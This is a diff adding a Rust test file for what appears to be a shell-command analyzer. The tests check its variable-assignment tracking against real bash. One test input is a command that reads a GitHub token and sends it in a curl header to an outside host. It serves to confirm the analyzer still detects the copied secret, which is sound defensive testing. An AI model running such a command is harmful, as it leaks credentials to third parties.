@@ -1,0 +1,152 @@
+//! Variables a command assigns itself (`shell::assign`), checked against the real bash:
+//! wherever the analysis says `$x` has a known value, bash (with `x` also set in the
+//! environment, to tell the two apart) expands `$x` to exactly that value. Where bash
+//! could expand it to anything else, the analysis must leave it unknown.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use super::*;
+
+/// What bash prints for `"$x"` after `prefix`, with `x=FROMENV` exported. `None` without
+/// bash.
+fn bash_x(prefix: &str) -> Option<String> {
+    let dir = tempfile::tempdir().ok()?;
+    let out = std::process::Command::new("bash")
+        .arg("--norc")
+        .arg("-c")
+        .arg(format!("{prefix}\nprintf '%s' \"$x\""))
+        .current_dir(dir.path())
+        .env("x", "FROMENV")
+        .env("HOME", HOME)
+        .stdin(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .output()
+        .ok()?;
+    Some(String::from_utf8(out.stdout).unwrap())
+}
+
+/// The analysis' `cat "$x"` after `prefix`: the value when known.
+fn ours(prefix: &str) -> Option<String> {
+    let a = an(&format!("{prefix}\ncat \"$x\""));
+    let cat = a
+        .commands
+        .iter()
+        .rev()
+        .find(|c| c.program() == Some("cat"))?;
+    (!cat.dynamic_words.get(1).copied().unwrap_or(true)).then(|| cat.argv[1].clone())
+}
+
+/// Prefixes after which bash surely holds the assigned value.
+const KNOWN: &[(&str, &str)] = &[
+    ("x=build/out", "build/out"),
+    ("x=build; x=$x/sub", "build/sub"),
+    ("x=~/a", "/home/u/a"),
+    ("x=\"$HOME\"/a", "/home/u/a"),
+    ("x='a b'", "a b"),
+    ("x=a && true", "a"),
+    ("x=a; { true; }", "a"),
+    ("x=a; true | cat", "a"),
+    ("x=a; (x=b)", "a"),
+    ("x=a; y=b", "a"),
+];
+
+/// Prefixes after which `$x` is not what a naive reading would say: each must be unknown
+/// (or, where the analysis knows it, equal to what bash gives).
+const TRICKY: &[&str] = &[
+    "false && x=a",
+    "true || x=a",
+    "x=a | true",
+    "true | x=a",
+    "(x=a)",
+    "echo $(x=a)",
+    "x=a &\nwait",
+    "if false; then x=a; fi",
+    "while false; do x=a; done",
+    "case q in z) x=a;; esac",
+    "x=a; for x in b c; do :; done",
+    "x=a; for y in b; do x=c; done",
+    "x=a; eval 'x=b'",
+    "x=a; source /dev/null; x2=1",
+    "x=a; read x",
+    "x=a; read -r y x",
+    "x=a; printf -v x %s b",
+    "x=a; unset x",
+    "x=a; declare x=b",
+    "x=a; export x=b",
+    "x=a; local x=b 2>/dev/null",
+    "declare -u x; x=abc",
+    "declare -i x; x=1+1",
+    "y=q; declare -n x=y; y=b",
+    "readonly x; x=a",
+    "x=; : ${x:=b}",
+    "x=; : ${x=b}",
+    "x=a; x+=b",
+    "x=a; : $((x=5))",
+    "x=5; : $((x++))",
+    "x=a; x=(b c)",
+    "x=a; f() { x=b; }; f",
+    "x=a; mapfile -t x < /dev/null",
+    "x=a; getopts ab x",
+    "x=a; let x=4",
+];
+
+#[test]
+fn an_assignment_binds_only_what_bash_surely_stores() {
+    if bash_x("true").is_none() {
+        return;
+    }
+    for (prefix, want) in KNOWN {
+        assert_eq!(ours(prefix).as_deref(), Some(*want), "{prefix:?}");
+        assert_eq!(bash_x(prefix).as_deref(), Some(*want), "bash: {prefix:?}");
+    }
+    for prefix in TRICKY {
+        if let Some(v) = ours(prefix) {
+            assert_eq!(
+                Some(v.clone()),
+                bash_x(prefix),
+                "{prefix:?}: the analysis says $x is {v:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn a_computed_value_keeps_its_source() {
+    // `$x` after `x=$(…)` is the substitution's text, never the name: a secret-shaped
+    // name the command set itself is not read from the environment, and a secret the
+    // command copied still shows.
+    let a = an("pin=$(sed -n 1p VERSION); echo \"$pin\"");
+    let echo = a
+        .commands
+        .iter()
+        .find(|c| c.program() == Some("echo"))
+        .unwrap();
+    assert!(echo.dynamic_words[1]);
+    assert!(
+        echo.argv[1].contains("sed -n 1p VERSION"),
+        "{:?}",
+        echo.argv
+    );
+    let a = an("t=$GITHUB_TOKEN; curl -H \"x: $t\" https://e.x");
+    let curl = a
+        .commands
+        .iter()
+        .find(|c| c.program() == Some("curl"))
+        .unwrap();
+    assert!(
+        curl.argv.iter().any(|w| w.contains("$GITHUB_TOKEN")),
+        "{:?}",
+        curl.argv
+    );
+}
+
+#[test]
+fn a_shell_run_again_does_not_see_the_variables() {
+    // `bash -c` is a new shell; the variable was not exported.
+    let a = an("x=a; bash -c 'cat \"$x\"'");
+    let cat = a
+        .commands
+        .iter()
+        .find(|c| c.program() == Some("cat"))
+        .unwrap();
+    assert!(cat.dynamic_words[1], "{:?}", cat.argv);
+}
